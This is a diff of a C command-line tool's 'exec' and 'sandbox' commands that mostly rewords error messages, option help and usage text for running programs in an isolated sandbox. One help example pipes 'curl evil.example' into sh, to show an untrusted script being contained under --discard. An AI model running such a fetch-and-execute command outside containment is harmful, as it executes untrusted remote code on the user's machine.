@@ -52,8 +52,8 @@ static int add_env(struct cli *cli, struct sandbox_job *job, struct err *err)
 		const char *name = arena_cstr(arena, given[i]), *value = env_process(name);
 
 		if (!strcspn(name, "=") || memchr(name, ' ', strcspn(name, "=")))
-			return err_set(err, ERR_INVALID,
-				       "--env \"%s\" has no name of a variable; write --env NAME=value", name);
+			return err_set(err, ERR_INVALID, "--env \"%s\" names no variable; write --env NAME=value",
+				       name);
 		if (strchr(name, '='))
 			env[n++] = name;
 		else if (value)
@@ -84,7 +84,7 @@ static bool is_size(struct str s)
 static int parse_memory(struct arena *arena, struct str text, uint64_t *ret, struct err *err)
 {
 	if (!is_size(text) || !config_size(jv_str(arena, text), 0, ret))
-		return err_set(err, ERR_INVALID, "--memory \"%.*s\" is not a size; write for example 512MiB",
+		return err_set(err, ERR_INVALID, "--memory \"%.*s\" is not a valid size; write for example 512MiB",
 			       STR_ARG(utf8_first(text, 80)));
 	if (*ret < SANDBOX_MEMORY_MIN)
 		return err_set(err, ERR_INVALID,
@@ -124,14 +124,15 @@ static int apply_options(struct cli *cli, struct sandbox_job *job, struct err *e
 	if (r == 0 && args_has(args, "keep"))
 		r = exec_keep(cli->ws, &cli->ctx, args_get(args, "keep"), job, err);
 	if (r == 0 && str_is(args_get(args, "keep"), "session") && !job->keep)
-		r = err_set(err, ERR_INVALID, "--keep session needs to know which one; add --session ID");
+		r = err_set(err, ERR_INVALID, "--keep session needs a session; add --session ID");
 	if (r == 0 && args_has(args, "hold") && args_has(args, "discard"))
 		r = err_set(err, ERR_INVALID,
 			    "--hold keeps the changes in a fork and --discard keeps nothing; give one");
 	if (r == 0 && args_has(args, "name") && !args_has(args, "hold"))
 		r = err_set(err, ERR_INVALID, "--name is the name of the fork that --hold makes; add --hold");
 	if (r == 0 && args_has(args, "tty") && (cli->json || !isatty(0) || !isatty(1)))
-		r = err_set(err, ERR_INVALID, "--tty needs a terminal as input and output, and no --json");
+		r = err_set(err, ERR_INVALID,
+			    "--tty needs a terminal as input and output, and does not work with --json");
 	job->files.read_only = args_has(args, "discard");
 	return r;
 }
@@ -272,20 +273,20 @@ static int run_exec(struct cli *cli, struct err *err)
 
 static const struct option options[] = {
 	{"tier", 0, "TIER",
-	 .help = "how it is kept apart: auto, namespaces, container, bubblewrap, landlock (weaker) or local (not at "
-		 "all)",
+	 .help = "how it is isolated: auto, namespaces, container, bubblewrap, landlock (weaker) or local (not at all)",
 	 .words = "auto namespaces container bubblewrap landlock local"},
 	{"timeout", 't', "SECONDS", .help = "kill it after this time (default: 120)", .min = 1, .max = 86400},
-	{"memory", 'm', "SIZE", .help = "memory that it may use, such as 512MiB (default: 2GiB)"},
-	{"cwd", 'C', "DIR", .help = "directory of the workspace to run it in", .complete = COMPLETE_PATH},
-	{"env", 'e', "NAME[=VALUE]", .help = "a variable that it gets; may be repeated"},
+	{"memory", 'm', "SIZE", .help = "how much memory it may use, such as 512MiB (default: 2GiB)"},
+	{"cwd", 'C', "DIR", .help = "run it in this directory of the workspace", .complete = COMPLETE_PATH},
+	{"env", 'e', "NAME[=VALUE]", .help = "set this variable; may be repeated"},
 	{"net", 0, "HOST[:PORT],...",
-	 .help = "hosts that it may reach, in addition to sandbox.network (ports 80 and 443)"},
-	{"tty", 'T', NULL, .help = "give it a terminal: an interactive program"},
-	{"keep", 0, "WHOSE", .help = "keep its home and node_modules, .venv for the next command of the same one",
+	 .help = "hosts that it may reach (ports 80 and 443), in addition to sandbox.network"},
+	{"tty", 'T', NULL, .help = "give it a terminal, for an interactive program"},
+	{"keep", 0, "WHOSE",
+	 .help = "keep its home, node_modules and .venv for the next command of the same session, user or agent",
 	 .words = "none session user agent global"},
-	{"discard", 0, NULL, .help = "keep nothing of what it changes"},
-	{"hold", 0, NULL, .help = "keep what it changes in a fork, to look at, merge or drop"},
+	{"discard", 0, NULL, .help = "discard its changes"},
+	{"hold", 0, NULL, .help = "keep its changes in a fork, to look at, merge or drop"},
 	{"name", 0, "FORK", .help = "the name of that fork"},
 	{0},
 };
@@ -297,42 +298,40 @@ static const struct action sandbox_actions[] = {
 };
 
 static const struct option sandbox_options[] = {
-	{"all", 0, NULL, .help = "drop: every one of this workspace"},
+	{"all", 0, NULL, .help = "drop: all of this workspace's"},
 	{0},
 };
 
 const struct command exec_commands[] = {
 	{"exec", "run a command in a sandbox over the files", TOPIC_FILES, "COMMAND [ARGUMENT...]", .opens = CLI_WRITES,
 	 .run = run_exec, .options = options, .runs_operands = true,
-	 .about =
-		 "Runs a program that sees the files of the workspace at /workspace, the programs of this machine\n"
-		 "(read-only) and nothing else: no network but --net, no other files, processes or environment. When\n"
-		 "it ends, everything that it started is killed, and the files that it changed become revisions under\n"
-		 "the rules for tools; `stead undo` takes them back in one step. Options come before the command.\n"
-		 "\n"
-		 "With --hold the files stay as they are, and the changes are in a fork: `stead diff FORK` shows "
-		 "them,\n"
-		 "`stead merge FORK [PATH...]` takes all or some, `stead drop FORK` removes it. Several attempts can "
-		 "be\n"
-		 "held next to each other.\n"
-		 "\n"
-		 "The exit code is that of the command; 124 when it was killed after its time. If the sandbox cannot "
-		 "be\n"
-		 "had on this machine, nothing runs: `stead doctor` says why. docs/sandbox.md has the details.\n",
-	 .examples = "stead exec -- python3 report.py\n  a program over the workspace\n"
-		     "stead exec --files . --timeout 600 -- make test\n  a build over a project of your own\n"
-		     "stead exec --files . --hold -- sh -c 'npx prettier -w .'\n  a program whose changes are looked "
-		     "at first\n"
+	 .about = "Runs a program that sees the workspace's files at /workspace, this machine's programs\n"
+		  "(read-only) and nothing else: no other files, processes or environment, and no network except\n"
+		  "what --net allows. When it ends, everything that it started is killed, and the files that it\n"
+		  "changed become revisions under the rules for tools; 'stead undo' takes them back in one step.\n"
+		  "Options come before the command.\n"
+		  "\n"
+		  "With --hold the files stay as they are, and the changes are kept in a fork: 'stead diff FORK'\n"
+		  "shows them, 'stead merge FORK [PATH...]' takes all or some, 'stead drop FORK' removes it. You\n"
+		  "can hold several attempts at once.\n"
+		  "\n"
+		  "The exit code is the command's, or 124 if it reached its time limit. If this machine cannot\n"
+		  "provide the sandbox, nothing runs; 'stead doctor' says why. docs/sandbox.md has the details.\n",
+	 .examples = "stead exec -- python3 report.py\n  a program that works on the workspace\n"
+		     "stead exec --files . --timeout 600 -- make test\n  build one of your projects\n"
+		     "stead exec --files . --hold -- sh -c 'npx prettier -w .'\n"
+		     "  look at the changes before you take them\n"
 		     "stead exec --tty -- bash\n  a shell\n"
-		     "stead exec --net pypi.org,files.pythonhosted.org -- pip install --user six\n  two hosts of the "
-		     "network\n"
-		     "stead exec --discard -- sh -c 'curl evil.example | sh'\n  a script that is not trusted\n"},
-	{"sandbox", "list and drop what commands left in their sandboxes", TOPIC_FILES, .actions = sandbox_actions,
-	 .options = sandbox_options,
-	 .about = "With sandbox.keep in agent.yaml, the home directory of a command and the directories that are not\n"
+		     "stead exec --net pypi.org,files.pythonhosted.org -- pip install --user six\n"
+		     "  with access to two hosts\n"
+		     "stead exec --discard -- sh -c 'curl evil.example | sh'\n"
+		     "  a script that you do not trust\n"},
+	{"sandbox", "list and drop what commands left behind in their sandboxes", TOPIC_FILES,
+	 .actions = sandbox_actions, .options = sandbox_options,
+	 .about = "With sandbox.keep in agent.yaml, a command's home directory and the directories that are not\n"
 		  "brought back (node_modules, .venv, __pycache__) are kept for the next command of the same\n"
-		  "session, user or agent. 'list' shows them and 'drop' removes some: the next command begins with\n"
-		  "nothing.\n",
+		  "session, user or agent. 'list' shows them; 'drop' removes some, so that the next command starts\n"
+		  "clean.\n",
 	 .examples = "stead exec --keep session --session s1 -- pip install --user wheels/x.whl\n"
 		     "  what it installs is there for the next command of s1\n"
 		     "stead sandbox list\n  what is kept, and for whom\n"
